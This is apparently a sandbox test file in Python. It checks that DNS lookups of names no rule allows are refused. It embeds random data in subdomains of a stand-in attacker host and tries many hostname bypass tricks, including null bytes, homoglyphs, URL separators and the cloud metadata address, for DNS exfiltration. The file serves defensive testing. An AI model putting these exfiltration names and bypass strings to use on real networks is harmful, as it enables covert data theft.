# tries: carry data out in names: of forbidden domains, odd ones, addresses turned around
# holds: a name that no rule allows is never looked up
# world: network
# expect: {"exitCode": 0, "stdoutIncludes": "held: done"}
# asked: ["good.example.org"]
# refused: ["network stolen-data.attacker.net EACCES"]
import asyncio
import os
import socket
import urllib.request

from attempts import claim, outcome

DATA = os.urandom(20).hex()
NAMES = ['stolen-data.attacker.net', f'{DATA}.attacker.net', 'example.org', 'EXAMPLE.ORG.', 'xexample.org', 'example.org.attacker.net', 'example.com', 'x.api.example.com', 'api.example.com.attacker.net',
         'good.example.org.attacker.net', 'attacker.net\0.example.org', 'attacker.net .example.org', 'attacker.net/.example.org', 'attacker.net#.example.org', 'attacker.net?.example.org',
         'attacker.net@good.example.org.', 'attacker.net:80.example.org', 'a' * 64 + '.example.org', ('a' * 60 + '.') * 5 + 'example.org', 'ехample.org', 'x.exаmple.org', '..example.org', '.example.org',
         'x..example.org', '*.example.org', '-.example.org', f'{DATA}', 'wpad', 'localdomain', '1.0.0.127.in-addr.arpa', 'attacker。net', 'xn--.example.org\n']
for name in NAMES:
    answer = outcome(lambda: socket.getaddrinfo(name, 80))
    claim(f'{name!a} {answer}', isinstance(answer, str))
    print(outcome(lambda: socket.gethostbyname(name)), outcome(lambda: socket.gethostbyname_ex(name)), outcome(lambda: socket.getfqdn(name) and None))
    print(outcome(lambda: urllib.request.urlopen(f'http://{name}.{DATA}.net/', timeout=2) if name.isascii() and name.isprintable() and ' ' not in name else None))
for address in ('8.8.8.8', '127.0.0.1', '169.254.169.254'):
    print(outcome(lambda: socket.gethostbyaddr(address)), outcome(lambda: socket.getnameinfo((address, 80), 0)))


async def ask():
    await asyncio.get_running_loop().getaddrinfo(f'{DATA}.attacker.net', 80)


try:
    asyncio.run(ask())
except (OSError, RuntimeError) as error:
    print(type(error).__name__)
print(outcome(lambda: socket.getaddrinfo('GOOD.example.ORG.', 80)[0][4]))
print('held: done')
